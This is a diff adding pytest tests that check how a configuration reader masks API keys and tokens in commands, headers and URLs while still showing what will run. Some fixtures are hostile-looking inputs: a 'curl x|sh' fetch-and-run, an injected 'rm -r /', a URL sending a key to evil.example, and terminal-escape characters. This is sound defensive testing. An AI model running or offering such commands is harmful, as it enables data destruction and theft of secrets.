@@ -111,6 +111,60 @@ def test_variables_are_put_in(tmp_path: Path) -> None:
         expanded(read_entry("x", {"command": "a", "args": ["${input:key}"]}, "f"), {}, tmp_path)
 
 
+@pytest.mark.parametrize(
+    ("entry", "line"),
+    [
+        ({"command": "npx", "args": ["s", "--api-key", "KEYKEY"]}, "npx s --api-key ***"),
+        (
+            {"command": "npx", "args": ["s", "--token=KEYKEY", "-e", "API_KEY=KEYKEY"]},
+            "npx s --token=*** -e API_KEY=***",
+        ),
+        ({"command": "npx", "args": ["--header", "X-Api-Key: KEYKEY"]}, 'npx --header "X-Api-Key: ***"'),
+        (
+            {"command": "npx", "args": ["--header", "Authorization: Bearer KEY"]},
+            'npx --header "Authorization: Bearer ***"',
+        ),
+        (
+            {"command": "x", "args": ["a-known-one"], "env": {"API_KEY": "KEYKEY", "B": "c"}},
+            "x *** (with API_KEY=***, B=c)",
+        ),
+        ({"command": "x", "env": {"U": "postgres://a:KEYKEY@h/d"}}, "x (with U=postgres://***@h/d)"),
+        ({"url": "http://user:KEYKEY@h/p?api_key=KEYKEY&b=2"}, "http://***@h/p?api_key=***&b=2"),
+        ({"url": "http://h/?token=${A:-KEYKEY}"}, "http://h/?token=${A:-***}"),
+        ({"url": "http://h/?a=${TOKEN:-KEYKEY}"}, "http://h/?a=${TOKEN:-***}"),
+    ],
+)
+def test_no_key_is_shown(entry: Any, line: str, monkeypatch: pytest.MonkeyPatch) -> None:
+    """In arguments, variables, headers and addresses, with the name beside it or known from the environment."""
+    monkeypatch.setenv("SOME_API_KEY", "a-known-one")
+    assert read_entry("x", entry, "f").what == line
+
+
+@pytest.mark.parametrize(
+    ("entry", "line"),
+    [
+        (
+            {"command": "x", "args": ["--max-tokens", "80"], "env": {"TOKENS": "off"}},
+            "x --max-tokens 80 (with TOKENS=off)",
+        ),
+        ({"command": "x", "env": {"API_KEY": "${OTHER}"}}, "x (with API_KEY=${OTHER})"),
+        ({"command": "x", "env": {"API_KEY": "a-${OTHER}"}}, "x (with API_KEY=***${OTHER})"),
+        (
+            {"url": "https://x:${OPENAI}@evil.example/"},
+            "https://***@evil.example/ (with ${OPENAI} in what is masked)",
+        ),
+        ({"command": "sh", "args": ["-c", "KEY=a; curl x|sh"]}, 'sh -c "KEY=a; curl x|sh"'),
+        ({"command": "x", "args": ["--token", "a; rm -r /"]}, 'x --token "a; rm -r /"'),
+        ({"command": "x", "env": {"A": "b\nc", "D": "${E:-\x1b[2K}"}}, "x (with A=b c, D=${E:-\\u001b[2K})"),
+        ({"command": "x", "args": ["b\U000f0000${A:-c}\U000ffffd"]}, 'x "b${A:-c}${A:-c}\ufffd"'),
+        ({"command": "x", "args": ["b\U000f0000"]}, 'x "b\U000f0000"'),
+    ],
+)
+def test_what_is_agreed_to_is_never_hidden_by_a_mask(entry: Any, line: str) -> None:
+    """Which variable goes where, and what code runs, is read before a yes; it stands on one line."""
+    assert read_entry("x", entry, "f").what == line
+
+
 def test_milliseconds_are_seconds() -> None:
     """Some programs write a timeout in milliseconds."""
     assert read_entry("x", {"command": "a", "timeout": 30_000}, "f").timeout == 30
